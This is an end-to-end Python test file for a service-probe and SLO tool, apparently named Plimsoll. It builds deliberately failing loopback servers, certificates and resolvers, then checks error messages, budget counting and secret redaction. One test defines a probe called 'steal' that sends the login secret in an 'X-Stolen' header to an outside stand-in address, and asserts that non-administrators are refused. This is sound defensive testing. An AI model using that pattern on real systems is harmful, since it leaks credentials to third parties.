"""Probes against services that fail in every way a service can: each failure spends its SLO's budget, and `probe show` says why.

Real sockets on loopback: a server that says nothing, a body that never ends, redirects that go round, certificates that ended or are for
another name, a resolver that is silent and one that knows nothing; and a journey with a login, a secret and a token.
"""
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from harness import Plimsoll, Suite, World, free_port, get, measure, until

SECRET = "Bearer correct-horse-battery"


class Shop(BaseHTTPRequestHandler):
    """One service with good and bad corners."""

    seen = []
    broken = threading.Event()

    def log_message(self, *_):
        pass

    def answer(self, status, body=b"", **headers):
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.seen.append((self.command, self.path, dict(self.headers)))
        if self.path == "/loop":
            self.answer(302, Location="/loop2")
        elif self.path == "/loop2":
            self.answer(302, Location="/loop")
        elif self.path == "/endless":
            self.send_response(200)
            self.end_headers()
            try:
                while True:
                    self.wfile.write(b"x" * 65536)
            except OSError:
                pass
        elif self.path == "/outage":
            self.answer(503 if self.broken.is_set() else 200, b"all is well")
        elif self.path == "/echo":
            self.answer(500, str(dict(self.headers)).encode())
        elif self.path == "/basket/t%2F1":
            self.answer(200, b'{"items": [{"id": 7}]}', Content_Type="application/json")
        elif self.path == "/":
            self.answer(200, b"welcome")
        else:
            self.answer(404, b"no such page")

    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.answer(201 if self.headers["Authorization"] == SECRET else 401, b'{"token": "t/1"}')


def listener():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    return sock


def silent():
    """Takes connections and says nothing."""
    sock = listener()
    kept = []

    def accept():
        while True:
            try:
                kept.append(sock.accept()[0])
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    return sock


def tls_server(certificate, key):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    sock = listener()

    def serve():
        while True:
            try:
                one, _ = sock.accept()
                one.settimeout(5)
                with context.wrap_socket(one, server_side=True) as shaken:
                    shaken.recv(1)
            except OSError:
                if sock.fileno() < 0:
                    return

    threading.Thread(target=serve, daemon=True).start()
    return sock


def resolver(rcode):
    """A DNS server that answers every question with this code; None: it is silent."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))

    def serve():
        while True:
            try:
                question, peer = sock.recvfrom(4096)
            except OSError:
                return
            if rcode is not None:
                sock.sendto(question[:2] + struct.pack(">HHHHH", 0x8400 | rcode, 1, 0, 0, 0) + question[12:], peer)

    threading.Thread(target=serve, daemon=True).start()
    return sock


def port(sock):
    return sock.getsockname()[1]


def openssl(*arguments):
    subprocess.run(["openssl", *arguments], check=True, capture_output=True, timeout=60)


class Certificates:
    """An authority, and what it signed: for shop.test, ended or not."""

    def __init__(self, world):
        self.world = world
        self.ca, ca_key = world.path("ca.pem"), world.path("ca.key")
        openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "30", "-subj", "/CN=e2e authority",
                "-keyout", ca_key, "-out", self.ca)
        for name, days in (("fresh", "5"), ("ended", "-1")):
            request, key = world.path(name + ".csr"), world.path(name + ".key")
            openssl("req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=shop.test", "-keyout", key, "-out", request)
            extensions = world.write(name + ".ext", "subjectAltName=DNS:shop.test\n")
            openssl("x509", "-req", "-in", request, "-CA", self.ca, "-CAkey", ca_key, "-CAcreateserial", "-days", days, "-extfile", extensions,
                    "-out", world.path(name + ".pem"))

    def server(self, name):
        return tls_server(self.world.path(name + ".pem"), self.world.path(name + ".key"))


HEAD = """
apiVersion: plimsoll/v1
kind: Tier
metadata: {name: tier-1}
spec: {rank: 1, rto: 1h, rpo: 5m}
---
apiVersion: plimsoll/v1
kind: Service
metadata: {name: shop}
spec: {tier: tier-1, owner: team-shop}
"""
PROBE = """
apiVersion: plimsoll/v1
kind: Probe
metadata: {{name: {name}}}
spec: {{service: shop, interval: 10s, timeout: 2s, {more}}}
---
apiVersion: openslo/v1
kind: SLO
metadata: {{name: {name}}}
spec:
  service: shop
  budgetingMethod: Occurrences
  timeWindow: [{{duration: 30d, isRolling: true}}]
  objectives: [{{target: 0.9}}]
  indicator:
    metadata: {{name: {name}}}
    spec:
      ratioMetric:
        good: {{metricSource: {{type: prometheus, spec: {{query: 'sum(increase(probe_checks_total{{probe="{name}",result="success"}}[5m]))'}}}}}}
        total: {{metricSource: {{type: prometheus, spec: {{query: 'sum(increase(probe_checks_total{{probe="{name}"}}[5m]))'}}}}}}
"""


class Scene:
    def __init__(self):
        self.world = World("probes")
        self.shop = ThreadingHTTPServer(("127.0.0.1", 0), Shop)
        threading.Thread(target=self.shop.serve_forever, daemon=True).start()
        certificates = Certificates(self.world)
        self.sockets = [silent(), certificates.server("fresh"), certificates.server("ended"), resolver(None), resolver(3)]
        quiet, fresh, ended, deaf, ignorant = (port(s) for s in self.sockets)
        url = f"http://127.0.0.1:{self.shop.server_address[1]}"
        allowed = "allowPrivate: true, "
        trusted = allowed + f"caFile: {certificates.ca}, "
        #  name -> (the rest of its spec, what `probe show` says of it; None: it is good)
        self.probes = {
            "good": (allowed + f"http: {{url: '{url}/'}}", None),
            "outage": (allowed + f"http: {{url: '{url}/outage', expect: [{{of: body, contains: well}}]}}", None),
            "missing-page": (allowed + f"http: {{url: '{url}/nowhere'}}", "status 404, not 200 to 399"),
            "loop": (allowed + f"http: {{url: '{url}/loop', follow: 9}}", "the redirects of 127.0.0.1 go round in a circle"),
            "endless": (allowed + f"http: {{url: '{url}/endless'}}", "the body is longer than 1 MiB"),
            "silent": (allowed + f"http: {{url: 'http://127.0.0.1:{quiet}/'}}", "took the connection and said nothing"),
            "refused": (allowed + f"tcp: {{address: '127.0.0.1:{free_port()}'}}", "was refused: nothing listens there"),
            "private": (f"http: {{url: '{url}/'}}", "127.0.0.1 is a loopback address; set allowPrivate on the probe"),
            "ended": (trusted + f"tls: {{address: '127.0.0.1:{ended}', serverName: shop.test}}", "certificate ended 20"),
            "wrong-name": (trusted + f"tls: {{address: '127.0.0.1:{fresh}', serverName: other.test}}", "certificate is for shop.test, not for other.test"),
            "untrusted": (allowed + f"tls: {{address: '127.0.0.1:{fresh}', serverName: shop.test}}", "signed by an authority that is not trusted"),
            "ends-soon": (trusted + f"tls: {{address: '127.0.0.1:{fresh}', serverName: shop.test, leastValidity: 14d}}", "at least 14 d are wanted"),
            "fresh": (trusted + f"tls: {{address: '127.0.0.1:{fresh}', serverName: shop.test, leastValidity: 2d}}", None),
            "deaf": (allowed + f"dns: {{name: shop.test, resolver: '127.0.0.1:{deaf}'}}", "the resolver 127.0.0.1 did not answer"),
            "no-such-name": (allowed + f"dns: {{name: shop.test, resolver: '127.0.0.1:{ignorant}'}}", "NXDOMAIN: the name shop.test does not exist"),
            "echo": (allowed + f"http: {{url: '{url}/echo', headers: {{Authorization: env:PROBE_LOGIN}}}}", "status 500"),
            "journey": (allowed + f"""steps: [{{name: login, http: {{url: '{url}/login', method: POST, body: '{{}}', headers: {{Authorization: env:PROBE_LOGIN}},
                expect: [{{of: status, equals: '201'}}], capture: [{{name: token, from: json, key: $.token}}]}}}},
                {{name: basket, http: {{url: '{url}/basket/${{token}}', expect: [{{of: json, key: '$.items[0].id', equals: '7'}}]}}}}]""", None),
        }
        self.world.write("catalog/head.yaml", HEAD)
        for name, (more, _) in self.probes.items():
            self.world.write(f"catalog/{name}.yaml", PROBE.format(name=name, more=more))
        self.plimsoll = Plimsoll(self.world, self.world.path("catalog"), env={"PROBE_LOGIN": SECRET})

    def last(self, name):
        results = self.plimsoll.json("probe", "show", name)["results"]
        return results[0] if results else None

    def counted(self, name):
        """Valid and bad events of an SLO."""
        inputs = measure(self.plimsoll.json("slo", "show", name), "slo.budget_remaining")[1]
        return inputs["valid"], inputs["bad"]

    def close(self, keep):
        self.shop.shutdown()
        for sock in self.sockets:
            sock.close()
        self.world.close(keep)


def main():
    suite, scene = Suite(), Scene()
    try:
        scene.plimsoll.start()

        for name, (_, why) in scene.probes.items():
            def probe(name=name, why=why):
                first = until(f"a check of {name}", lambda: scene.last(name), 40)
                assert first["good"] == (why is None), first
                text = scene.plimsoll.run("probe", "show", name).stdout
                assert why is None or why in text, text
                valid, bad = until("it is counted", lambda: [n for n in [scene.counted(name)] if n[0] > 0][0], 30)
                assert bad == (valid if why else 0), f"{bad} of {valid}"

            suite.check(f"{name}: {'it is good' if why is None else why}", probe)

        def by_hand():
            before = len(scene.plimsoll.json("probe", "show", "good")["results"])
            assert scene.plimsoll.run("probe", "run", "good").returncode == 0
            failing = scene.plimsoll.run("probe", "run", "missing-page", check=False)
            assert failing.returncode == 1 and "status 404" in failing.stdout, failing
            assert len(scene.plimsoll.json("probe", "show", "good")["results"]) - before <= 1

        suite.check("a check by hand says by its exit code how it went", by_hand)

        def tried():
            more = "allowPrivate: true, dns: {name: shop.test, resolver: '127.0.0.1:%d'}" % port(scene.sockets[4])
            text = PROBE.format(name="new", more=more).split("---")[0]
            file = scene.world.write("new.yaml", text)
            done = scene.plimsoll.run("probe", "try", file, check=False)
            assert done.returncode == 1 and "NXDOMAIN" in done.stdout, done
            file = scene.world.write("new.yaml", text.replace("dns:", "dnz:"))
            wrong = scene.plimsoll.run("probe", "try", file, check=False)
            assert wrong.returncode == 4 and "dnz" in wrong.stderr, wrong

        def editors():
            token = scene.plimsoll.run("token", "create", "editor", "--right", "edit", "--right", "view").stdout.strip()
            with_secret = scene.world.write("steal.yaml", PROBE.format(name="steal", more="http: {url: 'http://192.0.2.1/', headers: {X-Stolen: env:PROBE_LOGIN}}").split("---")[0])
            inward = scene.world.write("inward.yaml", PROBE.format(name="inward", more="allowPrivate: true, http: {url: 'http://127.0.0.1:1/'}").split("---")[0])
            for file in (with_secret, inward):
                done = scene.plimsoll.run("probe", "try", file, "--token", token, check=False)
                assert done.returncode == 4 and "only administrators may try" in done.stderr, done
            plain = scene.world.write("plain.yaml", PROBE.format(name="plain", more="http: {url: 'http://127.0.0.1:1/'}").split("---")[0])
            done = scene.plimsoll.run("probe", "try", plain, "--token", token, check=False)
            assert done.returncode == 1 and "loopback address" in done.stdout, done

        suite.check("who may edit, but is no administrator, tries nothing that uses this server's secrets or its place", editors)
        suite.check("a definition is tried before the catalogue has it", tried)

        def secrets():
            shown = scene.plimsoll.run("probe", "show", "echo").stdout + json.dumps(scene.plimsoll.json("probe", "show", "echo"))
            assert "***" in shown and "correct-horse" not in shown, shown
            assert "correct-horse" not in scene.world.log("plimsoll", 10_000)
            with open(os.path.join(scene.plimsoll.data, "log.db"), "rb") as log:
                assert b"correct-horse" not in log.read()

        suite.check("no secret stands in a result, a log or the event log", secrets)

        def outage():
            Shop.broken.set()
            until("an outage is seen", lambda: scene.counted("outage")[1] > 0, 40)
            bad = scene.counted("outage")[1]
            Shop.broken.clear()
            until("its end is seen", lambda: scene.last("outage")["good"], 40)
            valid, after = scene.counted("outage")
            assert valid > after and after <= bad + 1, (valid, after, bad)

        suite.check("an outage spends the budget while it lasts", outage)

        def restart():
            valid, _ = scene.counted("good")
            scene.plimsoll.stop()
            gone = time.monotonic()
            until("somebody else would notice", lambda: time.monotonic() - gone > 12, 20)
            scene.plimsoll.start()
            until("checks go on", lambda: scene.counted("good")[0] > valid, 40)
            assert scene.counted("good")[1] == 0, "checks that were not made did not fail"

        suite.check("while the server is down checks are missing, not failed", restart)

        def own_metrics():
            text = get(scene.plimsoll.url + "/metrics", headers={"Authorization": "Bearer " + open(os.path.join(scene.plimsoll.data, "cli.token"), encoding="utf-8").read().strip()}).decode()
            assert 'plimsoll_probe_checks_total{result="failure"}' in text
            assert "plimsoll_probe_checks_lost_total 0" in text

        suite.check("the server tells how many checks it made", own_metrics)
    finally:
        scene.close(keep=suite.failed > 0)
    return suite.finish()


if __name__ == "__main__":
    sys.exit(main())
